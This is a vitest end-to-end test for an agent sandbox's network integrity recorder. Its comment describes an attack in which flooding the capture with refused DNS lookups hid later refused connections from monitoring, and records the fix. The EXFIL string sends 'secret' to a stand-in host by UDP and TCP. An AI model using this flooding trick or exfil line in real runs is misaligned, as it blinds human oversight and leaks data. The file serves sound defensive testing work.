// A39-3 (attacker a39, issue 39): 500 refused name lookups (not counted, by design) fill the
// sandbox's capture records, after which direct TCP connections and datagrams the capture refuses
// are never recorded: no `network_refused` event, no `network` record.
//
// Promise (docs/integrity.md): `network_refused` is "a connection the run's proxy or its capture
// refused (a host not listed, a denied address, a direct TCP connection, a datagram)"; "Name lookups.
// A DNS query the capture refuses is not counted ... the connection that follows is the attempt".
// The history bound is promised for integrity events (2,000 per run), not a per-sandbox 500 shared
// with lookups.
// What happened (real Docker run): call 1 resolves 600 made-up names (each refused by the capture,
// none an integrity event, as documented); call 2 sends a UDP datagram to 10.9.9.9:53 and opens a
// TCP connection to 10.9.9.9:443. Both are refused, and the run has ZERO integrity events. Without
// call 1 the same call 2 gives `network_refused` events (test/attack/a39-held.e2e.test.ts). The
// capture's records share one cap (runner/network/limits.ts maxRecords.capture = 500) for dns,
// direct and udp; once the lookups fill it, network-records.ts never sees the refusals.
// Suggested fix: keep lookups out of the class that carries integrity evidence (a cap of their own),
// or hand every refused direct/udp connection to the integrity recorder before RecordBudget.admit
// drops it (the integrity quota bounds those), or at least count the dropped ones into one
// `network_refused` event ("N more refused, not recorded") at the phase's end.
// Fixed (fix-39): name lookups have their own per-sandbox record cap (runner/network/limits.ts
// `lookup`), so they no longer use up the capture records of direct TCP and datagrams.
import { beforeAll, describe, expect, it } from "vitest";
import { hasEngine } from "../helpers/engines.ts";
import { ensureImage } from "../run/harness.ts";
import { attackRun, toolOutputs } from "./a39-run.ts";

const NO_ALLOWLIST = (md: string) => md.replace(/^allow_commands:.*\n/m, "");
const LOOKUPS =
  "python3 -c \"import socket\nfor i in range(600):\n  try: socket.getaddrinfo('x%d.nope.test' % i, 80)\n  except Exception: pass\nprint('looked up')\"";
const EXFIL =
  "python3 -c \"import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.sendto(b'secret', ('10.9.9.9', 53))\nt = socket.socket(); t.settimeout(3)\ntry: t.connect(('10.9.9.9', 443))\nexcept Exception as e: print(e)\"";

describe.skipIf(!hasEngine("docker"))("A39-3 lookups fill the capture's records (docker)", () => {
  beforeAll(() => ensureImage(), 1_800_000);

  it("direct and udp attempts after 600 lookups are still network_refused events", {
    timeout: 300_000,
  }, async () => {
    const run = await attackRun("capture-flood", [LOOKUPS, `${EXFIL}; printf 7 > answer.txt`], {
      taskMd: NO_ALLOWLIST,
    });
    expect(run.result.outcome.status).toBe("failed");
    const exfilCall = run.events.filter((e) => e.kind === "network_refused");
    // Before the fix: [] (the run's history has no integrity event at all).
    expect(exfilCall.length, toolOutputs(run)).toBeGreaterThanOrEqual(1);
    expect(exfilCall.every((e) => e.call?.tool === "bash")).toBe(true);
  });
});
